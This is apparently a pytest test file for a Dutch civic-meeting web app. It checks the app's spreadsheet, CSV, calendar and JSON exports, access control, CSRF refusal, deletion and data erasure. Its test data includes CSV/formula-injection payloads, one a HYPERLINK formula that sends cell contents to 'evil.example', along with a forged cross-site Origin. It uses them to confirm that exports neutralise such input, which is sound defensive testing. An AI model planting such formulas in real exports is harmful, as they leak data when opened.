"""The hand-off, against the real server: working-group exports (XLSX, CSV, print page, .ics), the
evening's spreadsheet, the JSON archive and its import, access to every route, deleting, and
erasure counted from the meeting's day."""

from __future__ import annotations

import calendar
import csv
import datetime
import io
import json
import re
import secrets
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from conftest import Client, Server, api, get
from icalendar import Calendar
from markupsafe import escape
from openpyxl import load_workbook

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+31612345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",  # full-width =
    "\uff0bA1",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20A1",  # full-width @
]
# A theme title no sheet name could hold as it is: too long, with every character Excel refuses.
ODD_TITLE = "=Groen/wijk [noord]: bomen? *ja* \\ 'en' een hele lange titel erachteraan"
THEMES = [ODD_TITLE, "Verkeer", "+Samen eten"]


def _post_form(url: str, fields: dict, headers: dict) -> tuple[int, bytes]:
    """POST a form without following redirects: (status, body)."""

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    data = urllib.parse.urlencode(fields).encode()
    req = urllib.request.Request(url, data=data, headers=headers, method="POST")
    try:
        with urllib.request.build_opener(NoRedirect).open(req, timeout=10) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, err.read()


def _bearer(key: str) -> dict:
    return {"Authorization": f"Bearer {key}"}


def _same_site(server: Server, key: str, code: str) -> dict:
    """What a browser on our own host page sends with a form: the cookie and our Origin."""
    return {"Cookie": f"host_{code}={key}", "Origin": server.url, "Sec-Fetch-Site": "same-origin"}


class Evening:
    """A meeting on the real server with pledges, cards, hand counts and additions, formula
    payloads everywhere attendees or the host can type."""

    def __init__(self, server: Server, connect):
        body = api(
            server.url + "/api/meetings", {"title": "Dorpsavond", "themes": THEMES, "place": "@Dorpshuis"}
        )[1]
        self.server, self.code, self.key = server, body["code"], body["host_key"]
        self.projector_key = body["projector_key"]
        host = connect(self.code, "host", self.key)
        self.host = host
        phones = [connect(self.code, "phone") for _ in range(len(FORMULAS))]
        self.token = phones[0].token
        assert host.call("set_phase", phase="recognition")["ok"]
        self.additions = []
        for n, phone in enumerate(phones):
            assert phone.call("vote", theme=1 + n % 3, answer=("yes", "partly", "no")[n % 3])["ok"]
            text = f"{FORMULAS[n]} aanvulling {n}"
            ack = phone.call("addition", theme=1 + n % 3, text=text)
            self.additions.append((ack["addition"], text, n % 2 == 0))
            assert host.call("moderate", addition=ack["addition"], show=n % 2 == 0)["ok"]
        assert host.call("manual_count", theme=1, answer="yes", count=7)["ok"]
        assert host.call("manual_count", theme=2, answer="no", count=3)["ok"]
        assert host.call("set_phase", phase="topics")["ok"]
        for n, phone in enumerate(phones):
            assert phone.call("choose", theme=1 + n % 3)["ok"]
        assert phones[0].call("note", theme=1, field="lead", text=FORMULAS[0])["ok"]
        assert phones[1].call("note", theme=1, field="first_step", text="-Eerst koffie")["ok"]
        assert host.call("set_phase", phase="pledges")["ok"]
        self.pledges = []
        roles = ("lead", "member", "occasional")
        for n, phone in enumerate(phones):
            pledge = {
                "theme": 1 + n % 3,
                "role": roles[(n // 3) % 3],
                "name": f"{FORMULAS[n]} {n}",
                "email": f"lid{n}.{secrets.token_hex(3)}@example.nl" if n % 4 != 1 else "",
                "phone": f"06 1234 56{n:02d}" if n % 2 else "",
                "consent": True,
                "share": n not in (3, 5),
            }
            if not pledge["email"] and not pledge["phone"]:
                pledge["phone"] = f"+32 470 12 34 {n:02d}"
            assert phone.call("pledge", **pledge) == {"ok": True}, pledge
            self.pledges.append({**pledge, "n": n})
        for c in phones:
            c.close()

    def url(self, path: str) -> str:
        return f"{self.server.url}/{self.code}{path}"

    def fetch(self, path: str, key: str | None = None) -> bytes:
        status, _, body = get(self.url(path), _bearer(key or self.key))
        assert status == 200, (path, status)
        return body


@pytest.fixture(scope="module")
def evening(tmp_path_factory):
    """One filled-in evening on its own server (module scope: several tests read it)."""
    srv = Server(tmp_path_factory.mktemp("handoff")).start()
    made: list[Client] = []

    def connect(code, role, token=None):
        c = Client(srv.url, code, role, token)
        made.append(c)
        return c

    ev = Evening(srv, connect)
    yield ev
    for c in made:
        try:
            c.close()
        except Exception:
            pass
    srv.stop()


def _looks_like_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def _csv_cell(text: str) -> str:
    return "'" + text if _looks_like_formula(text) else text


def _people_phone(raw: str) -> str:
    """How the export writes a number: as people write it, never with + first."""
    digits = re.sub(r"\D", "", raw)
    if raw.startswith("+32"):
        return f"0032 {digits[2:5]} {digits[5:7]} {digits[7:9]} {digits[9:]}"
    return f"06 {digits[-8:]}"


# -- the working groups as CSV and XLSX ------------------------------------------------------------


def test_the_csv_holds_every_pledge_with_formulas_inert_and_phone_numbers_as_people_write_them(evening):
    raw = evening.fetch("/werkgroepen.csv")
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Werkgroep", "Rol", "Naam", "E-mail", "Telefoon", "Aangemeld op", "Via"]
    got = {r[2]: r for r in rows[1:]}
    assert len(got) == len(evening.pledges) == len(rows) - 1
    roles = {"lead": "Trekker", "member": "Meedoen", "occasional": "Af en toe"}
    for p in evening.pledges:
        row = got[_csv_cell(p["name"])]
        assert row[0] == _csv_cell(THEMES[p["theme"] - 1])
        assert row[1] == roles[p["role"]]
        assert row[3] == p["email"]
        assert row[4] == (_people_phone(p["phone"]) if p["phone"] else "")
        assert re.fullmatch(r"\d\d-\d\d-\d{4} \d\d:\d\d", row[5])
        assert row[6] == "Telefoon"  # every pledge here came from a phone
    for row in rows[1:]:
        for value in row:  # nothing a spreadsheet would run
            assert not _looks_like_formula(value), value


def test_the_xlsx_has_an_overview_and_a_safe_sheet_per_group_with_every_field_as_text(evening):
    wb = load_workbook(io.BytesIO(evening.fetch("/werkgroepen.xlsx")))
    names = wb.sheetnames
    assert names[0] == "Overzicht" and len(names) == 1 + len(THEMES)
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) and not name.startswith("'")
    overview = list(wb["Overzicht"].iter_rows(values_only=True))
    assert overview[0][:5] == ("Werkgroep", "Trekkers", "Meedoen", "Af en toe", "Samen")
    assert [r[0] for r in overview[1:]] == THEMES
    for row in overview[1:]:
        mine = [p for p in evening.pledges if THEMES[p["theme"] - 1] == row[0]]
        assert row[1:5] == (
            sum(p["role"] == "lead" for p in mine),
            sum(p["role"] == "member" for p in mine),
            sum(p["role"] == "occasional" for p in mine),
            len(mine),
        )
    for theme_id, title in enumerate(THEMES, start=1):
        ws = wb[overview[theme_id][6]]
        rows = [r for r in ws.iter_rows(values_only=True)]
        assert rows[0][:2] == ("Werkgroep", title)
        header = rows.index(
            (
                "Rol",
                "Naam",
                "E-mail",
                "Telefoon",
                "Voorkeur",
                "Herkomst",
                "Delen met de groep",
                "Aangemeld op",
            )
        )
        members = {r[1]: r for r in rows[header + 1 :] if r[0] in ("Trekker", "Meedoen", "Af en toe")}
        mine = [p for p in evening.pledges if p["theme"] == theme_id]
        assert set(members) == {p["name"] for p in mine}  # exactly as typed: a string cell needs no '
        for p in mine:
            r = members[p["name"]]
            assert (r[2] or "") == p["email"]  # an empty cell reads back as None
            assert (r[3] or "") == (_people_phone(p["phone"]) if p["phone"] else "")
            assert r[4] == ("e-mail" if p["email"] else "telefoon")
            assert r[5] == "Telefoon"  # every one of them used a phone
            assert r[6] == ("ja" if p["share"] else "nee")
        if theme_id == 1:
            card = rows[[r[0] for r in rows].index("Kaart") + 1 :]
            assert ("Wie neemt het voortouw?", FORMULAS[0]) in [r[:2] for r in card]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)


def test_one_theme_can_be_exported_alone(evening):
    rows = list(
        csv.reader(io.StringIO(evening.fetch("/werkgroepen.csv?thema=2").decode("utf-8-sig")), delimiter=";")
    )
    assert {r[0] for r in rows[1:]} == {"Verkeer"}
    assert len(rows) - 1 == sum(p["theme"] == 2 for p in evening.pledges)
    wb = load_workbook(io.BytesIO(evening.fetch("/werkgroepen.xlsx?thema=2")))
    assert wb.sheetnames == ["Overzicht", "1 Verkeer"]


def test_the_evening_spreadsheet_has_every_addition_marked_and_every_count(evening):
    wb = load_workbook(io.BytesIO(evening.fetch("/verslag.xlsx")))
    additions = list(wb["Aanvullingen"].iter_rows(values_only=True))
    assert additions[0][:4] == ("Nummer", "Thema", "Tekst", "Status")
    counted = (
        "Herkend door",
        "Telefoon",
        "Papier en helper",
        "Handen",
        "Samengevoegd in (nummer)",
        "Keer genoemd",
        "Samengevoegd hierin",
    )
    assert additions[0][4:] == counted
    assert [(r[2], r[3]) for r in additions[1:]] == [
        (text, "getoond" if shown else "niet getoond") for _, text, shown in evening.additions
    ]
    counts = {r[0]: r for r in wb["Telling"].iter_rows(values_only=True)}
    header = counts.pop("Thema")
    col = {name: i for i, name in enumerate(header)}
    first = counts[ODD_TITLE]
    voters = [n for n in range(len(FORMULAS)) if n % 3 == 0]
    assert first[col["Ja (telefoon)"]] == len(voters)
    assert first[col["Ja (handen)"]] == 7 and first[col["Ja (samen)"]] == len(voters) + 7
    assert counts["Verkeer"][col["Nee (handen)"]] == 3
    assert first[col["Gekozen aan tafel"]] == len(voters)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            assert all(c.data_type != "f" for c in row)


# -- access ------------------------------------------------------------------------------------------

GET_ROUTES = [
    "/werkgroepen.csv",
    "/werkgroepen.xlsx",
    "/werkgroepen.xlsx?thema=1",
    "/verslag",
    "/verslag.xlsx",
    "/bijeenkomst.json",
    "/werkgroep/1",
    "/werkgroep/3/afspraak.ics",
    "/afronden",
]


def test_the_record_counts_paper_forms_and_people_helped_apart_from_phones_and_hands(server, connect):
    made = server.create_meeting()
    code, key = made["code"], made["host_key"]
    host = connect(code, "host", key)
    helper = connect(code, "helper", made["helper_key"])
    assert host.call("set_phase", phase="recognition")["ok"]
    assert connect(code, "phone").call("vote", theme=1, answer="yes") == {"ok": True}
    assert helper.call("submit_form", origin="paper", votes={"1": "yes"})["ok"]
    assert helper.call("submit_form", origin="paper", votes={"1": "yes"})["ok"]
    later = [{"theme": 1, "text": "Later"}]
    assert helper.call("submit_form", origin="helper", votes={"1": "no"}, additions=later)["ok"]
    assert host.call("manual_count", theme=1, answer="yes", count=4) == {"ok": True}
    # The spreadsheet: a column per way of taking part; a paper form is never a phone.
    status, _, body = get(f"{server.url}/{code}/verslag.xlsx", _bearer(key))
    telling = list(load_workbook(io.BytesIO(body))["Telling"].iter_rows(values_only=True))
    row = dict(zip(telling[0], next(r for r in telling if r[0] == "Groen in de wijk"), strict=True))
    ways = ("telefoon", "papier", "met hulp", "handen", "samen")
    assert [row[f"Ja ({way})"] for way in ways] == [1, 2, 0, 4, 7]
    assert [row[f"Nee ({way})"] for way in ways] == [0, 0, 1, 0, 1]
    # The record: the same columns, and the addition nobody looked at yet is counted too.
    status, _, body = get(f"{server.url}/{code}/verslag", _bearer(key))
    page = body.decode()
    heads = '<th scope="col">Antwoord</th>' + "".join(
        f'<th scope="col">{w}</th>' for w in ("Telefoon", "Papier", "Met hulp", "Handen", "Samen")
    )
    assert heads in page
    assert '<th scope="row">Ja</th><td>1</td><td>2</td><td>0</td><td>4</td><td>7</td>' in page
    assert '<th scope="row">Nee</th><td>0</td><td>0</td><td>1</td><td>0</td><td>1</td>' in page
    assert "0 werd een thema, 1 nog niet bekeken</dd>" in page and "Nog niet bekeken: 1." in page


def test_every_export_is_for_this_meetings_host_only(evening, server):
    other = server.create_meeting()
    # A follow-up for theme 3, so its .ics exists (a bearer key needs no Origin: no page can add it).
    status, _ = _post_form(evening.url("/werkgroep/3"), {"date": "2027-01-05"}, _bearer(evening.key))
    assert status == 303
    refused = {
        "no key": {},
        "beamer key": _bearer(evening.projector_key),
        "phone token": _bearer(evening.token),
        "another meeting's host key": _bearer(other["host_key"]),
        "beamer cookie": {"Cookie": f"projector_{evening.code}={evening.projector_key}"},
    }
    for path in GET_ROUTES:
        for who, headers in refused.items():
            status, _, body = get(evening.url(path), headers)
            assert status == 403, (path, who, status)
            assert b"example.nl" not in body
        assert get(evening.url(path), _bearer(evening.key))[0] == 200, path
        status, headers, _ = get(evening.url(path), {"Cookie": f"host_{evening.code}={evening.key}"})
        assert status == 200 and "no-store" in headers["Cache-Control"], path
    for path in ("/werkgroep/1", "/datum", "/verwijderen"):
        for who, headers in refused.items():
            status, _ = _post_form(
                evening.url(path), {"confirm": evening.code}, {**headers, "Origin": server.url}
            )
            assert status == 403, (path, who)
    assert get(evening.url("/verslag"), _bearer(evening.key))[0] == 200  # still there


def test_a_change_from_another_site_is_refused_even_with_the_host_cookie(evening):
    cookie = {"Cookie": f"host_{evening.code}={evening.key}"}
    foreign = [
        {**cookie, "Origin": "http://evil.example"},
        {**cookie, "Origin": "null"},
        {**cookie, "Sec-Fetch-Site": "cross-site"},
        cookie,  # a cookie-only POST without Origin: no browser on our page sends that
    ]
    for headers in foreign:
        for path, fields in (
            ("/verwijderen", {"confirm": evening.code}),
            ("/datum", {"held_on": "2001-01-01"}),
            ("/werkgroep/2", {"date": "2030-01-01"}),
        ):
            status, _ = _post_form(evening.url(path), fields, headers)
            assert status == 403, (path, headers)
    assert get(evening.url("/verslag"), _bearer(evening.key))[0] == 200
    page = evening.fetch("/afronden").decode()
    assert "2001" not in page


def test_deleting_needs_the_code_typed_again(evening):
    headers = _same_site(evening.server, evening.key, evening.code)
    for typed in ("", "XXXXX", evening.code[:4]):
        status, body = _post_form(evening.url("/verwijderen"), {"confirm": typed}, headers)
        assert status == 400 and b"Typ de code" in body
    assert get(evening.url("/verslag"), _bearer(evening.key))[0] == 200


# -- the working group's page and its first meeting ----------------------------------------------------


def test_the_group_page_lists_only_who_shares_marks_the_trekker_and_offers_the_first_meeting(evening):
    headers = _same_site(evening.server, evening.key, evening.code)
    status, body = _post_form(
        evening.url("/werkgroep/1"), {"date": "2026-12-03", "time": "19.30", "place": "=Buurthuis"}, headers
    )
    assert status == 303
    page = evening.fetch("/werkgroep/1").decode()
    mine = [p for p in evening.pledges if p["theme"] == 1]
    assert any(not p["share"] for p in mine) and any(p["share"] for p in mine)
    for p in mine:
        assert (str(escape(p["name"])) in page) == p["share"], p["name"]
        if p["email"]:
            assert (p["email"] in page) == p["share"]
    bcc = urllib.parse.unquote(re.search(r'href="mailto:\?bcc=([^&"]*)', page).group(1))
    assert sorted(bcc.split(",")) == sorted(p["email"] for p in mine if p["share"] and p["email"])
    assert "3 december 2026, 19.30 uur, =Buurthuis" in page
    for p in mine:
        if p["share"] and p["role"] == "lead":
            assert re.search(
                # The name is set apart (bdi): a right-to-left name keeps "(trekker)" after it.
                "<bdi>" + re.escape(str(escape(p["name"]))) + r"</bdi>\s*<strong class=\"mark\">\(trekker\)",
                page,
            )
    cal = Calendar.from_ical(evening.fetch("/werkgroep/1/afspraak.ics"))
    (event,) = cal.walk("VEVENT")
    assert str(event["LOCATION"]) == "=Buurthuis"
    # Dutch time with its zone, so a phone set to another zone still shows 19.30 in the village.
    assert event.decoded("DTSTART").isoformat() == "2026-12-03T19:30:00+01:00"
    assert str(event.decoded("DTSTART").tzinfo) == "Europe/Amsterdam"
    assert event.decoded("DTEND").isoformat() == "2026-12-03T21:30:00+01:00"
    (zone,) = cal.walk("VTIMEZONE")
    assert str(zone["TZID"]) == "Europe/Amsterdam"
    assert str(event["SUMMARY"]) == f"Werkgroep {ODD_TITLE}: eerste afspraak"
    status, body = _post_form(evening.url("/werkgroep/1"), {"date": "3 dec", "time": ""}, headers)
    assert status == 400 and b"2026-03-12" in body


# -- the whole meeting as JSON --------------------------------------------------------------------------


def _sheets(raw: bytes) -> dict:
    wb = load_workbook(io.BytesIO(raw))
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def test_the_json_export_imported_on_a_fresh_server_gives_the_same_exports(evening, tmp_path):
    archive = json.loads(evening.fetch("/bijeenkomst.json"))
    assert archive["format"] == "burgerkracht-live/meeting" and archive["version"] == 2
    assert "hash" not in json.dumps(archive) and "token" not in json.dumps(archive)
    fresh = Server(tmp_path / "fresh").start()
    try:
        status, bad = api(fresh.url + "/api/meetings/import", {"format": "something else"})
        assert status == 400 and bad["error"] == "bad_payload"
        # A version this server does not know: the same refusal, in Dutch, nothing stored.
        status, bad = api(fresh.url + "/api/meetings/import", {**archive, "version": 3})
        assert status == 400 and bad["error"] == "bad_payload"
        assert bad["message"].startswith("Dit is geen bestand van een bijeenkomst dat we kunnen inlezen.")
        broken = {**archive, "pledges": [{**archive["pledges"][0], "participant": 10**9}]}
        status, bad = api(fresh.url + "/api/meetings/import", broken)
        assert status == 400 and bad["error"] == "bad_payload"
        status, made = api(fresh.url + "/api/meetings/import", archive)
        assert status == 201, made
        assert made["code"] == evening.code  # free on the fresh server, so kept
        again = lambda path: get(f"{fresh.url}/{made['code']}{path}", _bearer(made["host_key"]))[2]  # noqa: E731
        assert again("/werkgroepen.csv") == evening.fetch("/werkgroepen.csv")
        assert again("/werkgroepen.csv?thema=3") == evening.fetch("/werkgroepen.csv?thema=3")
        assert _sheets(again("/werkgroepen.xlsx")) == _sheets(evening.fetch("/werkgroepen.xlsx"))
        assert _sheets(again("/verslag.xlsx")) == _sheets(evening.fetch("/verslag.xlsx"))
        assert again("/verslag") == evening.fetch("/verslag")
        assert (
            again("/werkgroep/1/afspraak.ics").split(b"DTSTAMP")[0]
            == evening.fetch("/werkgroep/1/afspraak.ics").split(b"DTSTAMP")[0]
        )
        reimported = json.loads(again("/bijeenkomst.json"))
        assert {**reimported, "exported_at": 0} == {**archive, "exported_at": 0}
        # Imported a second time: the code is taken now, so it gets another one.
        status, second = api(fresh.url + "/api/meetings/import", archive)
        assert status == 201 and second["code"] != made["code"]
    finally:
        fresh.stop()


# -- nothing personal lingers ---------------------------------------------------------------------------


def _files_hold(data_dir: Path, needle: bytes) -> list[str]:
    return [p.name for p in data_dir.iterdir() if p.is_file() and needle in p.read_bytes()]


def test_the_store_erases_on_the_meetings_own_day_plus_its_retention(tmp_path):
    # SQLite-specific: no byte of the erased details left in the SQLite store's files. What every
    # store must erase and keep is in test_store_contract.py (``erase_due``).
    from live.domain import Theme
    from live.store import Action
    from live.store.sqlite import SQLiteStore

    store = SQLiteStore(str(tmp_path))
    for code, days in (("AAAAA", None), ("CCCCC", 5)):
        assert store.create_meeting(
            code, "Avond", "", "", [Theme(1, "Groen")], "h", "p", held_on="2030-03-12"
        )
        store.set_meeting_dates(code, "2030-03-12", days)
        pid = store.join(code, f"token-{code}")
        store.apply([Action("set_phase", code, 0, "", {"phase": "pledges"})])
        mail = f"erase-{code.lower()}@example.nl"
        store.apply(
            [
                Action(
                    "pledge",
                    code,
                    pid,
                    f"m-{code}",
                    {"theme": 1, "role": "lead", "name": "Ans", "email": mail, "phone": ""},
                )
            ]
        )
    held = calendar.timegm((2030, 3, 12, 0, 0, 0))  # the clock is moved from the meeting's day on
    assert store.erase_due(held + 4.9 * 86400, 90) == 0
    assert _files_hold(tmp_path, b"erase-ccccc@example.nl")
    assert store.erase_due(held + 5 * 86400 + 1, 90) == 1  # CCCCC: its own 5 days
    assert not _files_hold(tmp_path, b"erase-ccccc@example.nl")
    assert _files_hold(tmp_path, b"erase-aaaaa@example.nl")  # AAAAA: the default 90
    assert store.erase_due(held + 89.9 * 86400, 90) == 0
    assert store.erase_due(held + 90 * 86400 + 1, 90) == 1
    # A day nobody can read (an import written by hand) counts from the creation: never "never".
    assert store.create_meeting("DDDDD", "Avond", "", "", [Theme(1, "Groen")], "h", "p")
    store.set_meeting_dates("DDDDD", "12 maart", 0)
    pid = store.join("DDDDD", "token-d")
    store.apply([Action("set_phase", "DDDDD", 0, "", {"phase": "pledges"})])
    pledge = {"theme": 1, "role": "lead", "name": "Ans", "email": "erase-ddddd@example.nl", "phone": ""}
    store.apply([Action("pledge", "DDDDD", pid, "m-d", pledge)])
    assert store.erase_due(time.time() + 1, 90) == 1
    assert not _files_hold(tmp_path, b"erase-ddddd@example.nl")
    store.close()
    for name in ("erase-aaaaa@example.nl", "erase-ccccc@example.nl"):
        assert not _files_hold(tmp_path, name.encode()), name


def test_the_running_server_erases_a_meeting_whose_day_the_host_moved_into_the_past(tmp_path, connect):
    srv = Server(tmp_path / "srv").start()
    try:
        made = srv.create_meeting()
        code, key = made["code"], made["host_key"]
        host = Client(srv.url, code, "host", key)
        phone = Client(srv.url, code, "phone")
        assert host.call("set_phase", phase="pledges")["ok"]
        mail = f"gone-{secrets.token_hex(4)}@example.nl"
        assert phone.call("pledge", theme=1, role="lead", name="Wim", email=mail, consent=True)["ok"]
        host.close(), phone.close()
        assert _files_hold(srv.data_dir, mail.encode())
        status, _ = _post_form(
            f"{srv.url}/{code}/datum",
            {"held_on": "2020-01-10", "retention_days": "30"},
            _same_site(srv, key, code),
        )
        assert status == 303
        page = get(f"{srv.url}/{code}/afronden", _bearer(key))[2].decode()
        assert "9 februari 2020" in page  # the day it is erased, said in words
        srv.stop()
        srv = Server(srv.data_dir, port=srv.port).start()  # the run at start erases
        deadline = time.monotonic() + 10
        while _files_hold(srv.data_dir, mail.encode()) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not _files_hold(srv.data_dir, mail.encode())
        rows = list(
            csv.reader(
                io.StringIO(get(f"{srv.url}/{code}/werkgroepen.csv", _bearer(key))[2].decode("utf-8-sig")),
                delimiter=";",
            )
        )
        assert rows[1:] == []  # nobody left to contact
    finally:
        srv.stop()
        assert not _files_hold(srv.data_dir, mail.encode())


def test_deleting_a_meeting_leaves_none_of_its_bytes_in_any_store_file(tmp_path):
    srv = Server(tmp_path / "srv").start()
    try:
        made = srv.create_meeting(themes=("Uniek-thema-" + secrets.token_hex(4),))
        code, key = made["code"], made["host_key"]
        page = get(f"{srv.url}/{code}/verslag", _bearer(key))[2]
        theme = re.search(rb"Uniek-thema-[0-9a-f]{8}", page).group(0)
        host = Client(srv.url, code, "host", key)
        phone = Client(srv.url, code, "phone")
        assert host.call("set_phase", phase="pledges")["ok"]
        mail = f"weg-{secrets.token_hex(4)}@example.nl"
        assert phone.call("pledge", theme=1, role="member", name="Kees", email=mail, consent=True)["ok"]
        assert _files_hold(srv.data_dir, mail.encode()) and _files_hold(srv.data_dir, theme)
        status, body = _post_form(
            f"{srv.url}/{code}/verwijderen", {"confirm": code.lower()}, _same_site(srv, key, code)
        )
        assert status == 200 and b"verwijderd" in body
        assert get(f"{srv.url}/{code}/verslag", _bearer(key))[0] == 410  # gone, and its code retired
        assert get(f"{srv.url}/{code}", {})[0] == 410
        # A phone still connected is told, and writes nothing back.
        ack = phone.call("pledge", theme=1, role="member", name="Kees", email=mail, consent=True)
        assert ack == {"ok": False, "error": "unknown_meeting"}
        assert host.call("set_phase", phase="results") == {"ok": False, "error": "unknown_meeting"}
        host.close(), phone.close()
        for needle in (mail.encode(), theme):
            assert not _files_hold(srv.data_dir, needle), needle
    finally:
        srv.stop()
    for needle in (mail.encode(), theme):
        assert not _files_hold(srv.data_dir, needle), needle


def test_the_table_of_handled_message_ids_is_pruned(stores):
    from live.domain import Theme
    from live.store import Action

    store = stores()
    store.create_meeting("AAAAA", "Avond", "", "", [Theme(1, "Groen")], "h", "p", "x", "", None)
    (joined,) = store.apply([Action("join", "AAAAA", 0, "", {"token_hash": "t"})])
    pid = joined["participant"]
    store.apply([Action("set_phase", "AAAAA", 0, "", {"phase": "recognition"})])
    store.apply([Action("vote", "AAAAA", pid, "m1", {"theme": 1, "answer": "yes"})])
    assert store.seen("AAAAA", pid, "m1") == {"ok": True}
    assert store.prune_handled(time.time() - 3600) == 0
    assert store.seen("AAAAA", pid, "m1") == {"ok": True}
    assert store.prune_handled(time.time() + 1) == 1
    assert store.seen("AAAAA", pid, "m1") is None


def test_a_meeting_gets_its_day_at_creation_and_a_wrong_day_is_refused_in_dutch(server):
    status, made = api(
        server.url + "/api/meetings", {"title": "Avond", "themes": ["A"], "held_on": "2026-03-12"}
    )
    assert status == 201
    page = get(f"{server.url}/{made['code']}/afronden", _bearer(made["host_key"]))[2].decode()
    assert 'value="2026-03-12"' in page and "10 juni 2026" in page  # RETENTION_DAYS 90 later
    for wrong in ("12 maart", "2026-02-30", "1999-12-31", 20260312):
        status, refused = api(
            server.url + "/api/meetings", {"title": "Avond", "themes": ["A"], "held_on": wrong}
        )
        assert status == 400 and refused["error"] == "bad_date", wrong
        assert refused["message"] == "Vul een datum in, zoals 2026-03-12."
    status, _ = _post_form(server.url + "/", {"title": "Avond", "themes": "A", "held_on": "2026-04-01"}, {})
    assert status == 303


def test_a_meeting_larger_than_any_other_request_can_still_be_imported(evening, server):
    archive = json.loads(evening.fetch("/bijeenkomst.json"))
    first = archive["participants"][0]["id"]
    extra = [
        {
            "id": 10**6 + n,
            "participant": first,
            "theme": 1,
            "text": f"{n:04d} " + "x" * 480,
            "status": "hidden",
            "added_at": 0.0,
        }
        for n in range(700)
    ]
    body = {**archive, "additions": archive["additions"] + extra}
    assert len(json.dumps(body)) > 300 * 1024  # beyond the 256 KiB every other request gets
    status, made = api(server.url + "/api/meetings/import", body)
    assert status == 201, made
    raw = get(f"{server.url}/{made['code']}/verslag.xlsx", _bearer(made["host_key"]))[2]
    rows = _sheets(raw)["Aanvullingen"]
    assert len(rows) == 1 + len(archive["additions"]) + 700
    assert rows[-1][2].startswith("0699 ") and rows[-1][3] == "niet getoond"


def test_importing_needs_the_organiser_key_when_the_server_has_one(evening, tmp_path):
    archive = json.loads(evening.fetch("/bijeenkomst.json"))
    srv = Server(tmp_path / "keyed", env={"ORGANISER_KEY": "geheim-woord"}).start()
    try:
        status, refused = api(srv.url + "/api/meetings/import", archive)
        assert status == 403 and refused["error"] == "organiser_key_required"
        status, refused = api(srv.url + "/api/meetings/import", archive, _bearer("fout"))
        assert status == 403
        status, made = api(srv.url + "/api/meetings/import", archive, _bearer("geheim-woord"))
        assert status == 201 and made["host_key"]
    finally:
        srv.stop()


def test_the_calendar_file_says_dutch_summer_time_in_summer_and_keeps_a_day_without_a_time_whole():
    from icalendar import Calendar

    from live.exports.calendar import follow_up_ics

    meeting, theme = {"code": "K7HQA", "title": "Dorpsavond"}, {"id": 2, "title": "Groen"}
    summer = Calendar.from_ical(follow_up_ics(meeting, theme, {"date": "2027-06-10", "time": "19:30"}, "h"))
    (event,) = summer.walk("VEVENT")
    assert event.decoded("DTSTART").isoformat() == "2027-06-10T19:30:00+02:00"
    assert event.decoded("DTSTART").astimezone(datetime.UTC).hour == 17
    whole_day = Calendar.from_ical(follow_up_ics(meeting, theme, {"date": "2027-06-10", "time": ""}, "h"))
    (event,) = whole_day.walk("VEVENT")
    assert event.decoded("DTSTART") == datetime.date(2027, 6, 10) and not whole_day.walk("VTIMEZONE")
